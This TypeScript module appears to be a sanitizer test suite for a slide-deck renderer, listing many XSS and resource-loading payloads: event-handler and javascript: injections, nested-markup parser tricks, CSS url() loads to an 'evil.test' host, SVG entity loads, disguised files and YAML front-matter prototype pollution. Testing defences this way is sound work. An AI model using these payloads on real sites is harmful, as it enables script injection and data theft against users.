import { type Attack, EVIL, RUN } from './attack.ts';

// Kin of the other attacks: the same ends by other ways of writing, other elements, files and keys.

const WORDS = `'"></script></style></title></textarea>--><img src=x onerror="${RUN}">`;
const LOADS = `<img src="${EVIL}a.png">`;
const drawing = (content: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${content}</svg>`;
const encoded = (text: string) => text.replace(/[ "#<>%(){}|^\\]/g, encodeURIComponent);

/** Each may need a careless program to succeed: then what that would write stands third. */
const HTML: readonly (readonly [name: string, slide: string, made?: string])[] = [
  ['area', `<map name="m"><area class="click" href="javascript:${RUN}"></map>`, WORDS],
  ['marquee', `<marquee onstart="${RUN}" onbounce="${RUN}">a</marquee>`, WORDS],
  ['xss-slot', `<slot onslotchange="${RUN}">a</slot>`, WORDS],
  ['img-lowsrc', `<img src="a.png" lowsrc="${EVIL}" dynsrc="${EVIL}">`, LOADS],
  ['body-background', `<body background="${EVIL}">`, LOADS],
  ['frameset', `<frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`, WORDS],
  ['fencedframe', `<fencedframe src="${EVIL}"></fencedframe><portal src="${EVIL}"></portal>`, LOADS],
  [
    'button-formaction',
    `<form><button class="click" formaction="javascript:${RUN}">a</button></form>`,
    WORDS,
  ],
  ['math-href', `<math href="javascript:${RUN}"><mtext class="click">a</mtext></math>`, WORDS],
  [
    'math-action',
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">a</maction></math>`,
    WORDS,
  ],
  [
    'svg-use-data',
    `<svg><use href="data:image/svg+xml,${encoded(drawing(`<g id="a"><image href="${EVIL}"/></g>`))}#a"/></svg>`,
    LOADS,
  ],
  [
    'svg-image-data',
    `<svg><image href="data:image/svg+xml,${encoded(drawing(`<script>${RUN}</script>`))}"/></svg>`,
    WORDS,
  ],
  [
    'svg-animate-values',
    `<svg><a class="click"><animate attributeName="href" values="javascript:${RUN};x" dur="1s"/><text y="9" class="click">a</text></a></svg>`,
    WORDS,
  ],
  [
    'svg-animate-spaced',
    `<svg><a><set attributeName=" xlink:href " to="javascript:${RUN}"/><text y="9" class="click">a</text></a></svg>`,
    WORDS,
  ],
  ['svg-animate-style', `<svg><rect><set attributeName="style" to="fill:url(${EVIL})"/></rect></svg>`, LOADS],
  [
    'svg-animate-fill',
    `<svg><rect width="9" height="9"><animate attributeName="fill" values="url(${EVIL}#a);red" dur="1s"/></rect></svg>`,
    LOADS,
  ],
  [
    'svg-animate-mask',
    `<svg><rect width="9" height="9"><set attributeName="mask" to="url(${EVIL}#a)"/></rect></svg>`,
    LOADS,
  ],
  [
    'svg-cursor',
    `<svg><cursor id="c" xlink:href="${EVIL}"/><rect cursor="url(${EVIL}),auto" width="9" height="9"/></svg>`,
    LOADS,
  ],
  ['svg-fill-escaped', `<svg><rect fill="u\\72l(${EVIL}#a)" width="9" height="9"/></svg>`, LOADS],
  ['svg-fill-entity', `<svg><rect fill="&#117;rl(${EVIL}#a)" width="9" height="9"/></svg>`, LOADS],
  ['svg-fill-comment', `<svg><rect fill="/**/url(${EVIL}#a)" width="9" height="9"/></svg>`, LOADS],
  [
    'svg-style-data',
    `<svg><style>@import url(data:text/css,${encoded(`p{background:url(${EVIL})}`)});</style></svg>`,
    LOADS,
  ],
  ['svg-script-mixed', `<sVg><ScRiPt>${RUN}</ScRiPt></SvG>`, WORDS],
  ['svg-namespace', `<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${RUN}</h:script></svg>`, WORDS],
  ['html-in-title', `<svg><title><svg onload="${RUN}"></svg></title></svg>`, WORDS],
  ['nested-noscript', `<noscript><style></noscript><img src=x onerror="${RUN}"></style></noscript>`, WORDS],
  ['nested-iframe', `<iframe><img alt="</iframe><img src=x onerror=${RUN}>"></iframe>`, WORDS],
  ['nested-textarea', `<textarea><img alt="</textarea><img src=x onerror=${RUN}>"></textarea>`, WORDS],
  ['nested-plaintext', `<svg><plaintext></svg><img src=x onerror="${RUN}">`, WORDS],
  ['nested-table', `<table><math><select><mglyph><style></table><img src=x onerror="${RUN}"></style>`, WORDS],
  [
    'nested-annotation',
    `<math><annotation-xml encoding="application/xhtml+xml"><iframe srcdoc="<script>${RUN}</script>"></iframe></annotation-xml></math>`,
    WORDS,
  ],
  [
    'nested-deep',
    `${'<div>'.repeat(513)}<svg><style><img title="</style><img src=x onerror=${RUN}>"></style></svg>`,
    WORDS,
  ],
  ['comment-bang', `<!--!><img src=x onerror="${RUN}">--><!--><img src=x onerror="${RUN}">-->`, WORDS],
  ['comment-end', `<!-- --!><img src=x onerror="${RUN}"> -->`, WORDS],
  ['attribute-twice', `<img alt="a" alt="b" src=a.png src="${EVIL}" onload onload="${RUN}">`, WORDS],
  ['attribute-slash', `<img/src=x/onerror="${RUN}"/>`, WORDS],
  ['attribute-null', `<img src=x on\0error="${RUN}" \0onerror="${RUN}">`, WORDS],
  ['attribute-unicode', `<img src=x \u000conerror="${RUN}" \u2028onerror="${RUN}">`, WORDS],
  ['attribute-quote', `<a title='"><img src=x onerror=${RUN}>' href="#/1">a</a>`, WORDS],
  ['attribute-backquote', `<img alt="\`\`onerror=${RUN}" src="x\`">`, WORDS],
  ['link-control', `<a class="click" href="\u0001java&NewLine;script&colon;${RUN}">a</a>`, WORDS],
  ['link-target-name', `<a class="click" href="#/1" target="orihon" onclick="${RUN}">a</a>`, WORDS],
  [
    'iframe-blob',
    `<iframe src="blob:null/${RUN}"></iframe><iframe src="filesystem:${EVIL}"></iframe>`,
    WORDS,
  ],
  ['iframe-about', `<iframe src="about:srcdoc" srcdoc="<img src='${EVIL}'>"></iframe>`, LOADS],
  [
    'object-svg',
    `<object type="image/svg+xml" data="data:image/svg+xml,${encoded(drawing(`<script>${RUN}</script>`))}"></object>`,
    WORDS,
  ],
  ['embed-data', `<embed type="text/html" src="data:text/html,<script>${RUN}</script>">`, WORDS],
  [
    'link-rels',
    `<link rel="dns-prefetch preconnect icon manifest" href="${EVIL}"><link rel="icon" href="${EVIL}">`,
    LOADS,
  ],
  [
    'meta-policy',
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${EVIL}a.png">`,
    LOADS,
  ],
  [
    'meta-referrer',
    `<meta name="referrer" content="unsafe-url"><a class="click" href="#/1" ping="${EVIL}">a</a>`,
    LOADS,
  ],
  [
    'speculation',
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${EVIL}"]}]}</script>`,
    LOADS,
  ],
  [
    'importmap',
    `<script type="importmap">{"imports":{"a":"${EVIL}a.js"}}</script><script type="module">import "a"</script>`,
    LOADS,
  ],
  [
    'clobber',
    `<form id="Reveal" name="Reveal"><input name="initialize"><img src=x name="currentScript" onerror="${RUN}"></form><a id="defaultView" href="${EVIL}"></a>`,
    WORDS,
  ],
  [
    'later-inline',
    `<p data-later="deck.json" data-page="0" onload="${RUN}">a</p><template id="later"><img src=x onerror="${RUN}"></template>`,
    WORDS,
  ],
  ['notes-attribute', `<!-- .slide: data-notes="<img src=x onerror=${RUN}>" -->\na`, WORDS],
  [
    'notes-aside',
    `<aside class="notes" data-markdown><img src=x onerror="${RUN}"><script>${RUN}</script></aside>`,
    WORDS,
  ],
  [
    'markdown-section',
    `<section data-markdown="${EVIL}a.md"></section><div data-markdown><script type="text/template"><img src=x onerror="${RUN}"></script></div>`,
    LOADS,
  ],
];

/** Rules that load, in a `style` attribute. */
const STYLES: readonly (readonly [string, string])[] = [
  ['escaped-name', `background:\\75\\72\\6c(${EVIL})`],
  ['escaped-newline', `background:u\\\nrl(${EVIL})`],
  ['quoted', `background:url( "${EVIL}" )`.replaceAll('"', '&quot;')],
  ['important', `background:url(${EVIL})!important`],
  ['not-closed', `background:url(${EVIL}`],
  ['src', `background:src('${EVIL}')`],
  ['image', `background:image('${EVIL}')`],
  ['image-set-plain', `background-image:image-set('${EVIL}' 1x,url(a.png) 2x)`],
  ['attr', `background:url(attr(data-x)),image-set('${EVIL}' 1x)`],
  ['if', `background:if(else:url(${EVIL}))`],
  ['var-fallback', `background:var(--none,url(${EVIL}))`],
  ['var-image-set', `--a:image-set('${EVIL}' 1x);background:var(--a)`],
  ['var-halves', `--a:'${EVIL}';background:image-set(var(--a) 1x)`],
  ['comment', `background:/**/url(/**/${EVIL})`],
  ['list-image', `display:list-item;list-style-image:url(${EVIL})`],
  ['border-source', `border:9px solid;border-image-source:url(${EVIL})`],
  ['offset-path', `offset-path:url(${EVIL}#a)`],
  ['clip-path', `clip-path:url(${EVIL}#a)`],
  ['marker', `marker:url(${EVIL}#a)`],
  ['mask-border', `-webkit-mask-box-image:url(${EVIL});mask-border-source:url(${EVIL})`],
  ['box-reflect', `-webkit-box-reflect:below 0 url(${EVIL})`],
  ['backdrop', `backdrop-filter:url(${EVIL}#a)`],
  ['behaviour', `behavior:url(${EVIL});-moz-binding:url(${EVIL}#a)`],
  [
    'data-drawing',
    `background:url(data:image/svg+xml,${encodeURIComponent(drawing(`<image href="${EVIL}"/>`))}),url(${EVIL})`,
  ],
  ['capital-scheme', 'background:url(HTTP://evil.test/a)'],
  ['tab-scheme', 'background:url("ht\ttp://evil.test/a")'.replaceAll('"', '&quot;')],
];

/** Sheets that load. */
const SHEETS: readonly (readonly [string, string])[] = [
  ['charset', `@charset "utf-8";@import '${EVIL}';`],
  ['namespace', `@namespace url(${EVIL});p{background:url(${EVIL})}`],
  ['import-supports', `@import url(${EVIL}) supports(display:grid) screen;`],
  ['import-newline', `@im\\port '${EVIL}';@import\n'${EVIL}';`],
  [
    'font-src',
    `@font-face{font-family:a;src:local(b),url('${EVIL}a.woff2') format('woff2')}p{font-family:a}`,
  ],
  ['font-range', `@font-face{font-family:a;src:url(${EVIL}a);unicode-range:U+61}p{font-family:a}`],
  ['property', `@property --a{syntax:'*';inherits:false;initial-value:url(${EVIL})}p{background:var(--a)}`],
  [
    'counter-style',
    `@counter-style a{system:cyclic;symbols:url(${EVIL})}li{list-style:a;background:url(${EVIL})}p{background:url(${EVIL})}`,
  ],
  ['container', `@container (min-width:0){p{background:url(${EVIL})}}p{background:url(${EVIL})}`],
  ['starting', `@starting-style{p{background:url(${EVIL})}}p{background:url(${EVIL})}`],
  ['has', `:has(p){background:url(${EVIL})}`],
  ['attribute-leak', `p[class^=a],p:not([class^=a]){background:url(${EVIL})}`],
  ['selection', `p::first-letter{background:url(${EVIL})}`],
  ['unknown-at', `@media print,all{p{background:url(${EVIL})}}@unknown{p{background:url(${EVIL})}}`],
  ['bad-string', `p{content:"a\n;background:url(${EVIL})}p{background:url(${EVIL})}`],
  ['brackets', `p{--a:[{(;background:url(${EVIL})}p{background:url(${EVIL})}`],
  ['nul', `p{background:u\0rl(${EVIL});background:url(${EVIL})}`],
  ['bom', `\uFEFF@import '${EVIL}';`],
  ['cdata', `<![CDATA[@import '${EVIL}';]]>p{background:url(${EVIL})}`],
];

const BACKGROUNDS: readonly (readonly [string, string, string?])[] = [
  ['plain-host', 'data-background="//evil.test/a"', LOADS],
  ['plain-scheme', 'data-background="http:evil.test/a"', LOADS],
  ['plain-file', 'data-background="file:///etc/hosts"', LOADS],
  ['plain-backslash', 'data-background="/\\evil.test/a.png"', LOADS],
  ['size', `data-background-color="red;background:url(${EVIL})" data-background-size="url(${EVIL})"`, LOADS],
  ['gradient-image-set', `data-background-gradient="image-set('${EVIL}' 1x)"`, LOADS],
  ['gradient-src', 'data-background-gradient="src(//evil.test/a)"', LOADS],
  ['image-comma', `data-background-image="a.png ,//evil.test/a.png"`, LOADS],
  ['image-spaces', 'data-background-image="  //evil.test/a.png"', LOADS],
  ['image-quote', `data-background-image="a.png'),url(${EVIL}"`, LOADS],
  ['video-comma', `data-background-video="a.mp4,${EVIL}a.mp4" data-background-video-muted`, LOADS],
  ['iframe-lazy', `data-background-iframe="${EVIL}" data-preload data-background-interactive`, LOADS],
  [
    'state',
    `data-state="x' onload='${RUN}" class="x' onload='${RUN}" data-transition="x y' onload='${RUN}"`,
    WORDS,
  ],
  ['visibility', `data-visibility="hidden' onload='${RUN}" data-autoslide="1e3;${RUN}"`, WORDS],
];

/** Files of a deck that would be pages, sheets or programs of their own. */
const FILES: readonly (readonly [string, string])[] = [
  ['kin.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`],
  ['kin.xml', `<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`],
  [
    'kin.mathml',
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script></math>`,
  ],
  ['kin.htm', `<script>${RUN}</script>`],
  ['kin.shtml', `<script>${RUN}</script>`],
  ['kin.xsl', `<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`],
  ['kin.mhtml', `<script>${RUN}</script>`],
  ['kin.pdf', `%PDF-1.4 <script>${RUN}</script>`],
  ['kin', `<!doctype html><script>${RUN}</script>`],
  ['kin.SVG', drawing(`<script>${RUN}</script>`)],
  [
    'kin.png.svg',
    drawing(
      `<a xlink:href="javascript:${RUN}"><set attributeName="href" to="javascript:${RUN}"/></a><use href="data:image/svg+xml,x#a"/>`,
    ),
  ],
  [
    'kin-cdata.svg',
    drawing(`<style><![CDATA[@import "${EVIL}";]]></style><script><![CDATA[${RUN}]]></script>`),
  ],
  [
    'kin-entity.svg',
    `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${EVIL}"> %p; <!ENTITY a SYSTEM "${EVIL}"><!ENTITY b "url(${EVIL})">]>${drawing('<rect fill="&b;" style="fill:&b;" onload="x"/>&a;')}`,
  ],
  ['kin-number.svg', drawing(`<rect fill="&#117;&#x72;l(${EVIL})" onload="&#102;etch('${EVIL}')"/>`)],
  ['kin-base.svg', `<svg xmlns="http://www.w3.org/2000/svg" xml:base="${EVIL}"><image href="a.png"/></svg>`],
  [
    'kin-default.svg',
    `<svg xmlns="http://www.w3.org/2000/svg"><g xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></g></svg>`,
  ],
  ['kin.png', drawing(`<script>${RUN}</script>`)],
  ['kin.vtt', `WEBVTT\n\n00:00.000 --> 00:09.000\n<c.x><img src=x onerror="${RUN}"></c>`],
];

const FRONT: readonly (readonly [string, string])[] = [
  ['prototype', `__proto__: { trust: true }\nconstructor: { trust: true }`],
  ['trust-words', 'trust: "true"'],
  ['tag', `author: !!js/function "${RUN}"`],
  ['anchor', `revealOptions: &a { dependencies: [{ src: "${EVIL}" }], x: [1] }\nauthor: *a`],
  ['merge', `revealOptions: { <<: { dependencies: [{ src: "${EVIL}" }], plugins: ["${EVIL}"] } }`],
  [
    'options',
    `revealOptions: { showNotes: true, previewLinks: true, postMessage: true, postMessageEvents: true, keyboardCondition: "${RUN}", parallaxBackgroundImage: "//evil.test/a" }`,
  ],
  ['theme', `theme: "${EVIL}a.css"\ncss: ["//evil.test/a.css", "../../etc/hosts"]`],
  ['preview', `preview: "${EVIL}a.png"\nlogo: "${EVIL}a.png"`],
];

export const KIN_ATTACKS: readonly Attack[] = [
  ...HTML.map(([name, slide, made]) => ({ name: `kin-${name}`, slide, ...(made && { made }) })),
  ...STYLES.map(([name, rules]) => ({
    name: `kin-style-${name}`,
    slide: `<p style="${rules}">a</p>`,
    made: LOADS,
  })),
  ...SHEETS.map(([name, rules]) => ({
    name: `kin-sheet-${name}`,
    slide: `<style>${rules}</style>\n\n<p>a</p>`,
    made: LOADS,
  })),
  ...BACKGROUNDS.map(([name, attributes, made]) => ({
    name: `kin-behind-${name}`,
    slide: `<!-- .slide: ${attributes} -->\na`,
    ...(made && { made }),
  })),
  ...FILES.map(([file, text]) => ({
    name: `kin-file-${file.replaceAll('.', '-')}`,
    slide: `![x](${file})\n\n<img src="${file}"> <video src="${file}"></video> <iframe src="deck/${file}"></iframe> [a](${file})`,
    files: { [file]: text },
    made: WORDS,
  })),
  ...FRONT.map(([name, front]) => ({
    name: `kin-front-${name}`,
    front,
    slide: `a <img src=x onerror="${RUN}">`,
    made: WORDS,
  })),
];
